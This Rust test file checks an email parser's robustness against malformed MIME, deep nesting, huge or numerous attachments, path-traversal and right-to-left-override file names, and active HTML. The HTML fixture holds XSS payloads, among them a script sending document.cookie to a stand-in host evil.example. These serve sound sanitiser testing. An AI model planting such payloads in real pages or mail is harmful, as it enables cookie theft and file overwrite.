//! Hostile input from issue 5: malformed MIME, deep nesting, headerless lines, 1,000
//! attachments, a 50 MB attachment, path-traversal and invisible-character file names, and
//! active HTML. None may panic or stall, and each message must be kept.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test helpers may panic on bad fixtures

mod common;

use std::time::{Duration, Instant};

use common::b64_lines;
use concierge_mail::{AttachmentSkip, LimitHit, ParseLimits, parse};

const HEAD: &str = "From: Mallory <m@evil.example>\r\nTo: support@shop.example\r\nSubject: hostile\r\nMessage-ID: <h@evil.example>\r\nMIME-Version: 1.0\r\n";

#[test]
fn missing_boundaries_are_survived() {
    // Declared boundary never appears.
    let raw = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"nowhere\"\r\n\r\nJust text, no parts at all.\r\n"
    );
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    assert!(mail.text_body.unwrap_or_default().contains("Just text"));

    // Opening boundary but no closing one.
    let raw = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nFirst part\r\n--b1\r\nContent-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n"
    );
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    assert!(mail.text_body.unwrap_or_default().contains("First part"));
    assert_eq!(mail.attachments.len(), 1);
    assert_eq!(mail.attachments[0].content, b"%PDF-1.4\n");

    // multipart without a boundary parameter.
    let raw = format!("{HEAD}Content-Type: multipart/mixed\r\n\r\nOrphan body\r\n");
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    assert!(mail.text_body.unwrap_or_default().contains("Orphan body"));
}

fn nested_multipart(depth: usize) -> String {
    let mut raw = format!("{HEAD}Content-Type: multipart/mixed; boundary=\"b0\"\r\n\r\n");
    for i in 0..depth {
        raw.push_str(&format!(
            "--b{i}\r\nContent-Type: multipart/mixed; boundary=\"b{}\"\r\n\r\n",
            i + 1
        ));
    }
    raw.push_str(&format!(
        "--b{depth}\r\nContent-Type: text/plain\r\n\r\nDeep inside\r\n--b{depth}\r\nContent-Type: application/octet-stream; name=deep.bin\r\n\r\nDEEP\r\n--b{depth}--\r\n"
    ));
    for i in (0..depth).rev() {
        raw.push_str(&format!("--b{i}--\r\n"));
    }
    raw
}

#[test]
fn nesting_100_deep_is_bounded() {
    let raw = nested_multipart(100);
    let start = Instant::now();
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    assert!(start.elapsed() < Duration::from_secs(2));
    assert_eq!(mail.subject.as_deref(), Some("hostile"));
    assert!(
        mail.limits_hit
            .iter()
            .any(|l| matches!(l, LimitHit::TooDeep { limit: 32, .. })),
        "{:?}",
        mail.limits_hit
    );
    assert!(
        mail.attachments.is_empty(),
        "parts below the depth limit are not extracted"
    );

    // With a higher limit the same message yields its content.
    let limits = ParseLimits {
        max_depth: 200,
        ..ParseLimits::default()
    };
    let mail = parse(raw.as_bytes(), &limits).unwrap();
    assert!(mail.text_body.unwrap_or_default().contains("Deep inside"));
    assert_eq!(mail.attachments.len(), 1);
    assert_eq!(mail.attachments[0].filename, "deep.bin");
}

#[test]
fn nested_messages_100_deep_do_not_overflow() {
    let mut raw = String::from("From: a@x\r\nSubject: innermost\r\n\r\ncore\r\n");
    for i in 0..100 {
        raw = format!(
            "From: l{i}@x\r\nSubject: level {i}\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n{raw}"
        );
    }
    let start = Instant::now();
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    assert!(start.elapsed() < Duration::from_secs(2));
    assert_eq!(mail.subject.as_deref(), Some("level 99"));
}

#[test]
fn headers_without_colons() {
    let raw = b"From: a@example.com\r\nThis line has no colon\r\nAnother bad one\r\nSubject: still here\r\n\r\nBody text\r\n";
    let mail = parse(raw, &ParseLimits::default()).unwrap();
    assert_eq!(
        mail.from.map(|f| f.address).as_deref(),
        Some("a@example.com")
    );
    // Whatever the parser makes of the bad lines, nothing is lost silently: the subject or
    // the body still carries the text.
    let all = format!(
        "{} {}",
        mail.subject.unwrap_or_default(),
        mail.text_body.unwrap_or_default()
    );
    assert!(
        all.contains("still here") || all.contains("Body text"),
        "{all}"
    );

    // Only garbage without any header.
    let r = parse(b"\x00\x01\x02 no header at all", &ParseLimits::default());
    if let Err(e) = r {
        assert!(!e.to_string().is_empty());
    }
}

fn many_attachments(n: usize) -> String {
    let mut raw = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\nContent-Type: text/plain\r\n\r\nSee attached\r\n"
    );
    for i in 0..n {
        raw.push_str(&format!(
            "--m\r\nContent-Type: text/csv; name=\"f{i}.csv\"\r\nContent-Disposition: attachment; filename=\"f{i}.csv\"\r\n\r\na,b\r\n{i},x\r\n"
        ));
    }
    raw.push_str("--m--\r\n");
    raw
}

#[test]
fn a_thousand_attachments_are_capped_not_fatal() {
    let raw = many_attachments(1000);
    let start = Instant::now();
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    assert!(start.elapsed() < Duration::from_secs(3));
    assert!(mail.text_body.unwrap_or_default().contains("See attached"));
    assert!(mail.attachments.len() < 500 && mail.attachments.len() > 400);
    assert!(
        mail.limits_hit
            .iter()
            .any(|l| matches!(l, LimitHit::TooManyParts { limit: 500, skipped } if *skipped > 400))
    );

    let limits = ParseLimits {
        max_parts: 2000,
        ..ParseLimits::default()
    };
    let mail = parse(raw.as_bytes(), &limits).unwrap();
    assert_eq!(mail.attachments.len(), 1000);
    assert_eq!(mail.attachments[999].filename, "f999.csv");
    assert_eq!(mail.attachments[999].content, b"a,b\r\n999,x");
}

#[test]
fn a_50_mb_attachment_is_recorded_but_not_kept() {
    const SIZE: usize = 50 * 1024 * 1024;
    // 57 zero bytes per 76-character base64 line.
    let line = "A".repeat(76) + "\r\n";
    let lines = SIZE / 57;
    let rest = SIZE - lines * 57;
    let mut raw = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"big\"\r\n\r\n--big\r\nContent-Type: text/plain\r\n\r\nHere is the video\r\n--big\r\nContent-Type: video/mp4; name=\"movie.mp4\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    );
    raw.reserve(lines * 78 + 200);
    for _ in 0..lines {
        raw.push_str(&line);
    }
    raw.push_str(&b64_lines(&vec![0u8; rest]));
    raw.push_str("--big--\r\n");

    let start = Instant::now();
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    assert!(
        start.elapsed() < Duration::from_secs(20),
        "{:?}",
        start.elapsed()
    );
    assert!(
        mail.text_body
            .unwrap_or_default()
            .contains("Here is the video")
    );
    assert_eq!(mail.attachments.len(), 1);
    let a = &mail.attachments[0];
    assert_eq!(a.filename, "movie.mp4");
    assert_eq!(a.size, SIZE);
    assert!(a.content.is_empty());
    assert_eq!(
        a.skipped,
        Some(AttachmentSkip::TooLarge {
            limit: 25 * 1024 * 1024
        })
    );
    assert!(
        mail.limits_hit
            .iter()
            .any(|l| matches!(l, LimitHit::AttachmentTooLarge { size, .. } if *size == SIZE))
    );
}

#[test]
fn hostile_attachment_names() {
    let raw = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"n\"\r\n\r\n--n\r\nContent-Type: text/plain\r\n\r\nnames\r\n\
--n\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"..\\\\..\\\\x\"\r\n\r\nX\r\n\
--n\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''.htaccess%E2%80%8B\r\n\r\nDeny\r\n\
--n\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"../../../etc/passwd\"\r\n\r\nroot\r\n\
--n\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename*=utf-8''invoice%E2%80%AEfdp.exe\r\n\r\nMZ\r\n\
--n\r\nContent-Type: image/svg+xml; name=\"logo.png\"\r\n\r\n<svg onload=alert(1)/>\r\n\
--n\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"\\u0000\"\r\n\r\nnul\r\n\
--n--\r\n"
    );
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    let names: Vec<(&str, bool)> = mail
        .attachments
        .iter()
        .map(|a| (a.filename.as_str(), a.dangerous))
        .collect();
    assert_eq!(names[0], ("x", false));
    assert_eq!(names[1], (".htaccess", true));
    assert_eq!(names[2], ("passwd", false));
    assert_eq!(names[3], ("invoicefdp.exe", true));
    assert_eq!(
        names[4],
        ("logo.png", true),
        "SVG content type is active content"
    );
    assert!(!names[5].0.is_empty());
    for a in &mail.attachments {
        assert!(
            !a.filename
                .contains(['/', '\\', '\0', '\u{200b}', '\u{202e}'])
        );
    }
    assert_eq!(
        mail.attachments[1].original_filename.as_deref(),
        Some(".htaccess\u{200b}")
    );
}

#[test]
fn active_html_is_sanitised_and_original_kept() {
    let html = r#"<html><body onload="steal()"><p>Hello</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<iframe src="https://evil.example"></iframe>
<svg><script>alert(1)</script><circle onmouseover="alert(2)"/></svg>
<img src="https://example.com/a.png" onerror="alert(3)">
<a href="javascript:alert(4)">click</a>
<a href="JaVaScRiPt&#58;alert(5)">click2</a>
<a href="https://shop.example/order/1">your order</a>
<div style="background-image:url('javascript:alert(6)')">styled</div>
<style>@import url(https://evil.example/x.css);</style>
<object data="x.swf"></object><embed src="x.swf"><form action="https://evil.example"><input name=p></form>
<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">
</body></html>"#;
    let raw = format!("{HEAD}Content-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n");
    let mail = parse(raw.as_bytes(), &ParseLimits::default()).unwrap();
    assert!(
        mail.html_body.as_deref().unwrap().contains("<script>"),
        "original is kept"
    );
    let clean = mail.sanitized_html.unwrap();
    let lower = clean.to_lowercase();
    for bad in [
        "<script",
        "<iframe",
        "<svg",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<style",
        "<meta",
        "<base",
        "onload",
        "onerror",
        "onmouseover",
        "javascript",
        "style=",
        "alert(",
        "steal(",
    ] {
        assert!(!lower.contains(bad), "{bad} survived in {clean}");
    }
    assert!(clean.contains("Hello"));
    assert!(
        clean.contains(
            r#"<a href="https://shop.example/order/1" target="_blank" rel="noopener noreferrer">"#
        ),
        "{clean}"
    );
    assert!(mail.text_body.unwrap_or_default().contains("Hello"));
}

#[test]
fn oversized_messages_are_rejected_before_parsing() {
    let limits = ParseLimits {
        max_message_bytes: 1024,
        ..ParseLimits::default()
    };
    let raw = format!("{HEAD}\r\n{}", "x".repeat(2048));
    let err = parse(raw.as_bytes(), &limits).unwrap_err();
    assert!(err.to_string().contains("max_message_bytes"), "{err}");
}
